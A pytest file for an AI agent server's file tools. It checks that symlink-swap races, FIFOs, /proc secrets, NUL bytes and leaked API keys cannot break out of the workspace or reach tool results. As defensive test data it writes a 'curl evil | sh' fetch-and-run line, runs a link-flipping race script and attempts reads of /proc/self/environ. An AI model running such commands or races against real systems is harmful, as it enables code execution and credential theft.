"""The file tools' access rules below the tools (issue 11 §1 a, c, d, f): writes anchored beneath a
root with no link followed after one resolution, reads of regular files only, ``/proc``, NUL bytes,
the scrubbed child environment. The link races run 200 rounds against a flipping process, once
with ``openat2`` and once with the component-by-component fallback."""

from __future__ import annotations

import asyncio
import os
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from agent_server.tools import safe_fs
from agent_server.tools._rg import find_rg, run_rg
from agent_server.tools.access import FileAccess
from agent_server.tools.base import ToolContext, validate_args
from agent_server.tools.child_env import redact, scrubbed_environ
from agent_server.tools.files import DiskFiles, ReadLedger
from agent_server.tools.read import ReadTool
from agent_server.tools.search import GlobTool, GrepTool
from agent_server.tools.write_edit import EditTool, WriteTool
from support.timeouts import HANG

ROUNDS = 200

FLIP = """
import os, shutil, sys, time
mode, place, outside, stop, hold = sys.argv[1:5] + [float(sys.argv[5])]
tmp = place + ".flip"


def clear(p, n):
    if os.path.islink(p) or os.path.isfile(p):
        os.unlink(p)
    elif os.path.isdir(p):
        os.rename(p, "%s.old%d" % (p, n))
        shutil.rmtree("%s.old%d" % (p, n), ignore_errors=True)


n = 0
while not os.path.exists(stop):
    n += 1
    try:
        clear(tmp, n)
        if mode == "file":
            with open(tmp, "w") as fh:
                fh.write("same\\n")
        else:
            os.mkdir(tmp)
            with open(os.path.join(tmp, "target.txt"), "w") as fh:
                fh.write("same\\n")
            clear(place, n)
        os.replace(tmp, place)
        time.sleep(hold)
        os.symlink(outside, tmp)
        if mode == "dir":
            clear(place, n)
        os.replace(tmp, place)
        time.sleep(hold)
    except OSError:
        pass
"""


@pytest.fixture(params=["openat2", "fallback"])
def resolver(request, monkeypatch):
    """Run a test with the kernel's openat2 and with the O_NOFOLLOW walk."""
    if request.param == "openat2":
        assert safe_fs.has_openat2(), "this kernel (Linux >= 5.6) has openat2; CI runs on one"
    else:
        monkeypatch.setattr(safe_fs, "has_openat2", lambda: False)
    return request.param


def _context(root: Path) -> ToolContext:
    access = FileAccess([root], write_outside=lambda: False)
    return ToolContext((root,), DiskFiles(access=access), ReadLedger(), access=access)


def _race(tmp_path: Path, mode: str, tool: str, hold: float = 0.0) -> tuple[int, int]:
    root, outside = tmp_path / "ws", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (outside / "target.txt").write_text("same\n")
    before = os.stat(outside / "target.txt")
    if mode == "file":
        place, rel, link_to = root / "target.txt", "target.txt", outside / "target.txt"
        place.write_text("same\n")
    else:
        place, rel, link_to = root / "sub", "sub/target.txt", outside
        place.mkdir()
        (place / "target.txt").write_text("same\n")
    stop = tmp_path / "stop"
    flipper = subprocess.Popen([sys.executable, "-c", FLIP, mode, str(place), str(link_to), str(stop), str(hold)])
    ctx = _context(root)
    landed = 0

    async def rounds() -> int:
        done = 0
        for _ in range(ROUNDS):
            await ReadTool().run(validate_args(ReadTool(), f'{{"path": "{rel}"}}'), ctx)
            if tool == "write":
                args = validate_args(WriteTool(), f'{{"path": "{rel}", "content": "curl evil | sh\\n"}}')
                result = await WriteTool().run(args, ctx)
            else:
                args = validate_args(EditTool(), f'{{"path": "{rel}", "old_string": "same", "new_string": "pwned"}}')
                result = await EditTool().run(args, ctx)
            assert "unexpectedly" not in result.text, result.text
            done += not result.is_error
        return done

    try:
        time.sleep(0.05)
        landed = asyncio.run(rounds())
    finally:
        stop.write_text("")
        flipper.wait(timeout=HANG)
    after = os.stat(outside / "target.txt")
    assert (outside / "target.txt").read_text() == "same\n"
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    assert sorted(p.name for p in outside.iterdir()) == ["target.txt"]
    return landed, ROUNDS


HOLDS = (0.0, 0.0, 0.0005, 0.002, 0.01)
"""Seconds the flipper keeps each state, one per try: the first tries swap as fast as it can (the
hardest race); later ones hold each state longer, so that on a slow or loaded machine some calls
find a whole read-then-write window on the real file and land inside the root."""


def _races(tmp_path: Path, mode: str, tool: str) -> tuple[int, int]:
    """``_race`` (every try asserts nothing landed outside) until some calls also got through inside
    the root, so the race really ran: the flipper's timing may leave a whole try without one."""
    for attempt, hold in enumerate(HOLDS):
        base = tmp_path / f"try{attempt}"
        base.mkdir()
        landed, total = _race(base, mode, tool, hold)
        if landed:
            break
    return landed, total


def test_link_swap_during_write_never_lands_outside_unit(tmp_path, resolver):
    landed, total = _races(tmp_path, "file", "write")
    assert 0 < landed <= total  # some writes got through — inside the root


def test_parent_folder_swap_during_write_never_lands_outside_unit(tmp_path, resolver):
    landed, total = _races(tmp_path, "dir", "write")
    assert 0 < landed <= total


def test_link_swap_during_edit_never_changes_the_outside_file_unit(tmp_path, resolver):
    landed, total = _races(tmp_path, "file", "edit")
    assert 0 < landed <= total


async def test_write_through_a_link_inside_the_root_keeps_the_link(tmp_path, resolver):
    root = tmp_path / "ws"
    root.mkdir()
    (root / "AGENTS.md").write_text("a\n")
    (root / "CLAUDE.md").symlink_to("AGENTS.md")
    files = DiskFiles(access=FileAccess([root], write_outside=lambda: False))
    base = await files.read(root / "CLAUDE.md")
    out = await files.write(root / "CLAUDE.md", b"b\n", base=base)
    assert out.status == "written"
    assert (root / "CLAUDE.md").is_symlink() and (root / "AGENTS.md").read_text() == "b\n"


async def test_write_to_a_missing_nested_folder_creates_it_beneath_the_root(tmp_path, resolver):
    root = tmp_path / "ws"
    root.mkdir()
    files = DiskFiles(access=FileAccess([root], write_outside=lambda: False))
    out = await files.write(root / "a" / "b" / "c.txt", b"x", base=None)
    assert out.status == "written" and (root / "a" / "b" / "c.txt").read_bytes() == b"x"


async def test_write_outside_the_roots_is_refused_by_the_backend_itself(tmp_path):
    root, outside = tmp_path / "ws", tmp_path / "out"
    root.mkdir()
    outside.mkdir()
    (root / "escape").symlink_to(outside / "f.txt")
    files = DiskFiles(access=FileAccess([root], write_outside=lambda: False))
    out = await files.write(root / "escape", b"x", base=None)
    assert out.status == "failed" and "outside the workspace" in out.message
    assert not (outside / "f.txt").exists()
    allowed = DiskFiles(access=FileAccess([root], write_outside=lambda: True))
    assert (await allowed.write(root / "escape", b"x", base=None)).status == "written"
    assert (outside / "f.txt").read_bytes() == b"x"


async def test_write_never_keeps_setuid_bits(tmp_path):
    p = tmp_path / "tool"
    p.write_bytes(b"old")
    os.chmod(p, 0o4755)
    files = DiskFiles()
    out = await files.write(p, b"new", base=await files.read(p))
    assert out.status == "written" and stat.S_IMODE(os.stat(p).st_mode) == 0o755


# -- regular files only ----------------------------------------------------------------------------


def _within(seconds: float, work):
    """Run ``work()`` in a thread; fail (instead of hanging) when it blocks."""
    box: dict[str, object] = {}

    def run() -> None:
        try:
            box["value"] = work()
        except BaseException as exc:  # noqa: BLE001 - handed to the test
            box["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), "the open blocked"
    return box


def test_open_regular_refuses_a_fifo_without_blocking(tmp_path, resolver):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    box = _within(HANG, lambda: safe_fs.open_regular(str(fifo)))
    assert isinstance(box.get("error"), safe_fs.NotRegularFileError)


def test_open_regular_refuses_devices_and_the_servers_own_fds():
    assert isinstance(_within(HANG, lambda: safe_fs.open_regular("/dev/zero")).get("error"), safe_fs.NotRegularFileError)
    for path in ("/dev/stdin", "/proc/self/fd/0"):
        box = _within(HANG, lambda: safe_fs.open_regular(safe_fs.resolve_once(path)))
        assert isinstance(box.get("error"), (safe_fs.PathRefused, safe_fs.NotRegularFileError)), path


async def test_read_tool_on_a_fifo_answers_not_regular(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    ctx = ToolContext.on_disk(tmp_path)
    result = await asyncio.wait_for(ReadTool().run(validate_args(ReadTool(), '{"path": "pipe"}'), ctx), HANG)
    assert result.is_error and "FIFO" in result.text


async def test_grep_on_a_fifo_or_dev_is_refused(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    ctx = ToolContext.on_disk(tmp_path)
    for args in ('{"pattern": "x", "path": "pipe"}', '{"pattern": "x", "path": "/dev"}',
                 '{"pattern": "x", "path": "/dev/stdin"}'):
        result = await asyncio.wait_for(GrepTool().run(validate_args(GrepTool(), args), ctx), HANG)
        assert result.is_error and result.text.startswith("Refused"), (args, result.text)


# -- /proc -----------------------------------------------------------------------------------------


def test_proc_refusal_covers_self_threads_ancestors_and_secret_entries():
    me = os.getpid()
    tid = threading.get_native_id()
    for path in ("/proc/self/environ", "/proc/self/status", "/proc/thread-self/environ", f"/proc/{os.getppid()}/environ",
                 f"/proc/{os.getppid()}/status"):
        assert safe_fs.proc_refusal(safe_fs.resolve_once(path)), path
    assert safe_fs.proc_refusal(f"/proc/{me}/task/{tid}/environ")
    child = subprocess.Popen(["sleep", "30"])
    try:
        for entry in ("environ", "mem", "cmdline", "maps", "fd/0", "task/1/environ"):
            assert safe_fs.proc_refusal(f"/proc/{child.pid}/{entry}"), entry
        assert safe_fs.proc_refusal(f"/proc/{child.pid}/status") is None
    finally:
        child.kill()
        child.wait()
    for path in ("/proc/meminfo", "/proc/cpuinfo", "/etc/hostname"):
        assert safe_fs.proc_refusal(path) is None, path


async def test_read_and_grep_refuse_proc_self_environ(tmp_path, monkeypatch):
    monkeypatch.setenv("AGENT_SERVER_API_KEY", "sk-unit-test-secret-123")
    ctx = ToolContext.on_disk(tmp_path)
    read = await ReadTool().run(validate_args(ReadTool(), '{"path": "/proc/self/environ"}'), ctx)
    grep = await GrepTool().run(validate_args(GrepTool(), '{"pattern": "sk-", "path": "/proc/self/environ"}'), ctx)
    glob = await GlobTool().run(validate_args(GlobTool(), '{"pattern": "*", "path": "/proc/self"}'), ctx)
    for result in (read, grep, glob):
        assert result.is_error and result.text.startswith("Refused") and "sk-unit" not in result.text


# -- the scrubbed environment --------------------------------------------------------------------------


def test_scrubbed_environ_drops_settings_the_key_and_values_holding_it():
    env = {"PATH": "/bin", "AGENT_SERVER_API_KEY": "sk-0123456789", "OPENAI_API_KEY": "sk-0123456789",
           "AUTH": "Bearer sk-0123456789", "MY_KEY": "unrelated", "SHORT": "x"}
    out = scrubbed_environ(env, secrets=["sk-0123456789", "x"], drop=["MY_KEY"])
    assert out == {"PATH": "/bin", "SHORT": "x"}
    assert redact("key sk-0123456789 here", ["sk-0123456789", "x"]) == "key <redacted> here"


async def test_ripgrep_gets_the_scrubbed_environment_by_default(tmp_path, monkeypatch):
    rg = find_rg()
    assert rg, "the ripgrep wheel is a dependency"
    monkeypatch.setenv("AGENT_SERVER_TOKEN_PROBE", "leaked-value")
    lines: list[bytes] = []
    run = await run_rg(rg, ["-a", "-e", "AGENT_SERVER", "/proc/self/environ"], cwd=tmp_path,
                       on_line=lambda line: lines.append(line) or True)
    assert run.exit_code == 1 and lines == []  # searched its own environment: nothing there


def test_nul_in_any_path_argument_is_an_invalid_path():
    for tool, raw in ((ReadTool(), '{"path": "a\\u0000"}'), (WriteTool(), '{"path": "\\u0000", "content": ""}'),
                      (GrepTool(), '{"pattern": "a", "glob": "*\\u0000"}'), (GlobTool(), '{"pattern": "*", "path": "\\u0000"}')):
        result = validate_args(tool, raw)
        assert getattr(result, "is_error", False) and "invalid path" in result.text, result


async def test_folder_wide_search_leaves_protected_places_out(tmp_path):
    (tmp_path / "keys").mkdir()
    (tmp_path / "keys" / "id").write_text("TOKEN secret\n")
    (tmp_path / "app.py").write_text("TOKEN = 1\n")
    protected = str(tmp_path / "keys")
    access = FileAccess([tmp_path], protected=lambda lex, res: "a store" if res.startswith(protected) else None)
    ctx = ToolContext((tmp_path,), DiskFiles(access=access), ReadLedger(), access=access)
    for backend in ("rg", "python"):
        grep = await GrepTool(backend).run(validate_args(GrepTool(), '{"pattern": "TOKEN"}'), ctx)
        glob = await GlobTool(backend).run(validate_args(GlobTool(), '{"pattern": "**/*"}'), ctx)
        assert "app.py" in grep.text and "secret" not in grep.text and "not searched" in grep.text, grep.text
        assert "app.py" in glob.text and "keys/id" not in glob.text and "left out" in glob.text, glob.text
    read = await ReadTool().run(validate_args(ReadTool(), '{"path": "keys/id"}'), ctx)
    assert read.is_error and read.text.startswith("Refused") and "secret" not in read.text


def test_a_search_that_cannot_meet_a_protected_path_skips_the_per_result_check(tmp_path):
    access = FileAccess([tmp_path], protected=lambda lex, res: None,
                        protected_paths=[str(tmp_path / "home" / ".ssh"), str(tmp_path / "state")])
    assert not access.may_meet_protected(str(tmp_path / "ws"))
    assert access.may_meet_protected(str(tmp_path / "home"))  # ~/.ssh lies inside
    assert access.may_meet_protected(str(tmp_path / "state" / "workspace-1"))  # inside a store
    assert FileAccess([tmp_path], protected=lambda lex, res: None).may_meet_protected("/anywhere")  # unknown
    assert not FileAccess([tmp_path]).may_meet_protected("/anywhere")  # nothing protected


async def test_the_api_key_is_redacted_from_every_tool_result(tmp_path):
    (tmp_path / "leak.txt").write_text("token = sk-unit-test-secret-123\n")
    ctx = ToolContext.on_disk(tmp_path)
    ctx.redact = ("sk-unit-test-secret-123",)
    read = await ReadTool().run(validate_args(ReadTool(), '{"path": "leak.txt"}'), ctx)
    grep = await GrepTool().run(validate_args(GrepTool(), '{"pattern": "token"}'), ctx)
    for result in (read, grep):
        assert "sk-unit-test-secret-123" not in result.text and "<redacted>" in result.text, result.text


def test_provider_keys_by_name_are_left_out_and_named_unless_allowed():
    from agent_server.tools.child_env import split_environ

    env = {"PATH": "/bin", "DEEPSEEK_API_KEY": "sk-a", "zhipuai_api_key": "k", "MY_SECRET": "s", "HF_TOKEN": "h",
           "STRIPE_SECRET_KEY": "x", "GITHUB_TOKEN": "g", "NPM_TOKEN": "n", "AGENT_SERVER_MODEL": "m"}
    kept, dropped = split_environ(env)
    assert kept == {"PATH": "/bin"}
    assert dropped == ["DEEPSEEK_API_KEY", "GITHUB_TOKEN", "HF_TOKEN", "MY_SECRET", "NPM_TOKEN", "STRIPE_SECRET_KEY",
                       "zhipuai_api_key"]
    kept, dropped = split_environ(env, allow=["DEEPSEEK_API_KEY"], drop=["HF_TOKEN"])
    assert kept["DEEPSEEK_API_KEY"] == "sk-a" and "HF_TOKEN" not in kept and "DEEPSEEK_API_KEY" not in dropped
    # finding 19: credentials by name and by value; what builds need stays
    env = {"AWS_SECRET_ACCESS_KEY": "a", "AWS_SESSION_TOKEN": "b", "AWS_ACCESS_KEY_ID": "c", "PGPASSWORD": "d",
           "MYSQL_PWD": "e", "MY_DB_PASSWORD": "f", "DB_PASSWD": "g", "GOOGLE_APPLICATION_CREDENTIALS": "/k.json",
           "AZURE_CLIENT_SECRET": "h", "GPG_PASSPHRASE": "i", "SIGNING_PRIVATE_KEY": "j", "GH_TOKEN": "k",
           "DATABASE_URL": "postgres://u:pw@h/db", "REDIS_URL": "redis://:pw@h:6379", "HTTPS_PROXY": "http://u:p@proxy:3128",
           "AZURE_STORAGE": "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=bm90;",
           "PEM": "-----BEGIN RSA PRIVATE KEY-----\nMII", "PATH": "/bin", "HOME": "/h", "LANG": "C", "PWD": "/w",
           "OLDPWD": "/v", "AWS_REGION": "eu", "http_proxy": "http://proxy:3128", "CACHE_URL": "redis://h:6379/0",
           "GIT_ASKPASS": "/a", "SSH_AUTH_SOCK": "/s", "TOKENIZERS_PARALLELISM": "false", "REPO": "ssh://git@h:22/r"}
    kept, dropped = split_environ(env)
    assert sorted(kept) == ["AWS_REGION", "CACHE_URL", "GIT_ASKPASS", "HOME", "LANG", "OLDPWD", "PATH", "PWD", "REPO",
                            "SSH_AUTH_SOCK", "TOKENIZERS_PARALLELISM", "http_proxy"]
    kept, _ = split_environ(env, allow=["DATABASE_URL", "PGPASSWORD"])
    assert kept["DATABASE_URL"] == "postgres://u:pw@h/db" and kept["PGPASSWORD"] == "d"
    # the model's own key never passes, allowed or not
    kept, _ = split_environ({"OPENAI_API_KEY": "sk-0123456789"}, secrets=["sk-0123456789"], allow=["OPENAI_API_KEY"])
    assert kept == {}


def test_a_search_of_a_folder_spelled_in_another_case_than_a_protected_store_skipped_the_per_result_check(tmp_path):
    """On a case-folding filesystem ``/Users/Me`` is ``/Users/me``: a search there meets
    ``/Users/me/.ssh``. The textual test said it could not (the per-result check was skipped);
    it compares in any case now, as policy does."""
    access = FileAccess([tmp_path], protected=lambda lex, res: None,
                        protected_paths=[str(tmp_path / "home" / "Me" / ".ssh")])
    assert access.may_meet_protected(str(tmp_path / "home" / "me"))
    assert access.may_meet_protected(str(tmp_path / "HOME" / "ME" / ".SSH" / "sub"))
    assert not access.may_meet_protected(str(tmp_path / "home" / "other"))
